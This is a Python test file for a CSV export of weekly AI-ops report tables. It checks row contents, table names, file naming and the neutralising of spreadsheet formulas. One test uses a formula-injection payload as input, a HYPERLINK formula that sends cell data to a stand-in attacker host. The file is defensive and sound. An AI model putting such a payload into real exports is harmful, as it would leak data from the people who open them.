"""The report's tables as CSV: the same numbers as the report, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

from report_numbers import excerpt, insights, minimal_week, week

from aiops_report.analysis.insight_parts import SegmentStats
from aiops_report.report.csv_tables import csv_tables, write_csv_tables


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_each_table_holds_the_report_numbers() -> None:
    numbers = week(insights=insights())

    tables = {name: rows(text) for name, text in csv_tables(numbers).items()}

    assert list(tables) == ["daily", "by_model", "lowest_scored", "disliked"]
    assert [(r["date"], int(r["conversations"])) for r in tables["daily"]] == [
        (d.date.isoformat(), d.conversations) for d in numbers.daily
    ]
    assert numbers.insights is not None and numbers.insights.by_model is not None
    assert [(r["model"], r["likes"], r["cost"]) for r in tables["by_model"]] == [
        (m.model, str(m.likes), "" if m.cost is None else str(m.cost))
        for m in numbers.insights.by_model
    ]
    assert len(tables["lowest_scored"]) == 6 and len(tables["disliked"]) == 4
    assert tables["lowest_scored"][0]["created_at"] == "2026-11-16T19:07:00+09:00"
    assert tables["disliked"][0]["user_message"] == numbers.disliked[0].user_message


def test_text_a_spreadsheet_would_run_is_made_inert() -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    numbers = week(disliked=[excerpt(user_message=attack, comment="-2+3", reason=None)])

    [row] = rows(csv_tables(numbers)["disliked"])

    assert row["user_message"] == "'" + attack
    assert row["comment"] == "'-2+3"
    assert row["reason"] == ""  # None is an empty cell, never "None"


def test_without_a_model_column_there_is_no_by_model_table(tmp_path: Path) -> None:
    pdf = tmp_path / "weekly_report_2026_11_23.pdf"

    written = write_csv_tables(minimal_week(), pdf)

    assert [p.name for p in written] == [
        f"weekly_report_2026_11_23_{name}.csv" for name in ("daily", "lowest_scored", "disliked")
    ]
    assert written[0].read_bytes().startswith(b"\xef\xbb\xbfdate,conversations,")


def test_a_report_with_segments_has_a_table_by_segment() -> None:
    shop = SegmentStats("shop-bot", 120, 80, 30, 20, 10, 2 / 3, 60, 7.25)
    unknown = SegmentStats("(unknown)", 5, None, 1, 0, 1, 0.0, 0, None)
    numbers = week(insights=replace(insights(), by_segment=[shop, unknown]))

    tables = {name: rows(text) for name, text in csv_tables(numbers).items()}

    assert list(tables) == ["daily", "by_model", "by_segment", "lowest_scored", "disliked"]
    assert tables["by_segment"] == [
        {
            "segment": "shop-bot",
            "conversations": "120",
            "unique_users": "80",
            "feedback_total": "30",
            "likes": "20",
            "dislikes": "10",
            "satisfaction_rate": str(2 / 3),
            "evaluations": "60",
            "avg_score": "7.25",
        },
        {
            "segment": "(unknown)",
            "conversations": "5",
            "unique_users": "",
            "feedback_total": "1",
            "likes": "0",
            "dislikes": "1",
            "satisfaction_rate": "0.0",
            "evaluations": "0",
            "avg_score": "",
        },
    ]
